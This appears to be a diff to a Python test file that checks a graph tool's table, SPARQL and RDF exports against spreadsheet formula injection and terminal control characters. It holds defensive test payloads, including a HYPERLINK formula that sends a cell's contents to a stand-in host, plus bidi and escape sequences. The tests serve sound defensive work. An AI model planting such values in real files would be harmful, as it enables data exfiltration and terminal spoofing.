@@ -6,11 +6,21 @@ import csv
 import io
 import json
 import re
+from xml.etree import ElementTree
 
 import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
-from pyoxigraph import Literal, NamedNode, QueryResultsFormat, Store, parse_query_results
+from pyoxigraph import (
+    Literal,
+    NamedNode,
+    Quad,
+    QueryResultsFormat,
+    RdfFormat,
+    Store,
+    parse,
+    parse_query_results,
+)
 from rich.cells import cell_len
 
 import mini
@@ -24,6 +34,7 @@ from atgraph.export.results import print_result
 from atgraph.export.tables import BOM, drawn, filled, harmless, render
 from atgraph.graph.query_files import find_question
 from atgraph.graph.result import Result
+from atgraph.rdf.namespaces import ATGD
 
 FORMULAS = [
     '=HYPERLINK("http://e/?"&A1,"open")',
@@ -34,8 +45,12 @@ FORMULAS = [
     "\r=1+1",
     "\n=1+1",
     "＝1+1",
+    "\u200f=1+1",
+    "\ufeff\u200e@SUM(1)",
 ]
 HARMLESS = [
+    "-",
+    "a; -b",
     "-5",
     "+5",
     "-1.5e3",
@@ -66,6 +81,15 @@ def test_a_spreadsheet_runs_nothing(cell: str, fmt: str) -> None:
     assert rows == [["a", "'" + cell], ["'" + cell, "b"]]
 
 
+@pytest.mark.parametrize("cell", ["a;=1+1", 'a;"=1+1', "=1;-1+1", "a;;@SUM(1)"])
+@pytest.mark.parametrize("fmt", ["csv", "excel", "tsv"])
+def test_nor_where_a_semicolon_or_tab_ends_a_cell(cell: str, fmt: str) -> None:
+    text = render(["a", cell], [[cell, "b"]], fmt).removeprefix(BOM)
+    for end in (",", ";", "\t"):
+        rows = csv.reader(io.StringIO(text, newline=""), delimiter=end)
+        assert not [one for row in rows for one in row if one.startswith(("=", "+", "-", "@"))]
+
+
 @pytest.mark.parametrize("cell", HARMLESS)
 def test_what_is_no_formula_stays_as_it_is(cell: str) -> None:
     assert harmless(cell) == cell
@@ -79,8 +103,8 @@ def test_formats_for_programs_keep_each_value(cell: str) -> None:
         json.loads(answer_text(answer, "json", False))["results"]["bindings"][0]["a"]["value"]
         == cell
     )
-    assert answer_text(answer, "tsv", False).splitlines()[1].split("\t")[0] == " ".join(
-        cell.split()
+    assert answer_text(answer, "tsv", False).splitlines()[1].split("\t")[0] == harmless(
+        " ".join(cell.split())
     )
     query = f"SELECT ?a WHERE {{ BIND ({Literal(cell)} AS ?a) }}"
     assert list(csv.reader(io.StringIO(written(Store().query(query), "csv"), newline="")))[1] == [
@@ -130,6 +154,34 @@ def test_a_value_does_not_act_on_the_terminal_of_who_reads_a_table(
     assert not [act for act in ("\x1b[31m", "\x1b]0", "\x07") if act in table]
     assert "red\N{REPLACEMENT CHARACTER}[31m" in table
     assert render(["a"], [["red\x1b[31m\x07"]], "csv") == "a\r\nred\x1b[31m\x07\r\n"
+
+
+ACTING = "a\x00\x1b]0;own\x07\x7f\x9b31m\u202e\u2066\u200f\ufffe\r\t\nb é国"
+
+
+@pytest.mark.parametrize("fmt", ["xml", "json", "tsv"])
+def test_a_result_of_sparql_says_all_that_its_format_can_and_no_character_acts(fmt: str) -> None:
+    query = f"SELECT ?a WHERE {{ BIND ({Literal(ACTING)} AS ?a) }}"
+    text = written(Store().query(query), fmt)
+    read = parse_query_results(text.encode(), format=getattr(QueryResultsFormat, fmt.upper()))
+    sign = "\N{REPLACEMENT CHARACTER}"
+    held = re.sub("[\x00\x1b\x07\ufffe]", sign, ACTING) if fmt == "xml" else ACTING
+
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200f\u202e\u2066]", text)
+    assert [row["a"].value for row in read] == [held]
+    if fmt == "xml":
+        assert ElementTree.fromstring(text).findtext(".//{*}literal") == held
+
+
+@pytest.mark.parametrize("fmt", ["nt", "ttl", "jsonld"])
+def test_so_does_a_graph(fmt: str) -> None:
+    store = Store()
+    store.add(Quad(NamedNode(f"{ATGD}a\u061cb"), NamedNode("x:p"), Literal(ACTING)))
+    text = written(store.query("CONSTRUCT WHERE { ?s ?p ?o }"), fmt)
+    formats = {"nt": RdfFormat.N_TRIPLES, "ttl": RdfFormat.TURTLE, "jsonld": RdfFormat.JSON_LD}
+
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200f\u202e\u2066]", text)
+    assert [q.object.value for q in parse(text.encode(), format=formats[fmt])] == [ACTING]
 
 
 def test_a_long_table_wraps_no_cell(monkeypatch: pytest.MonkeyPatch) -> None:
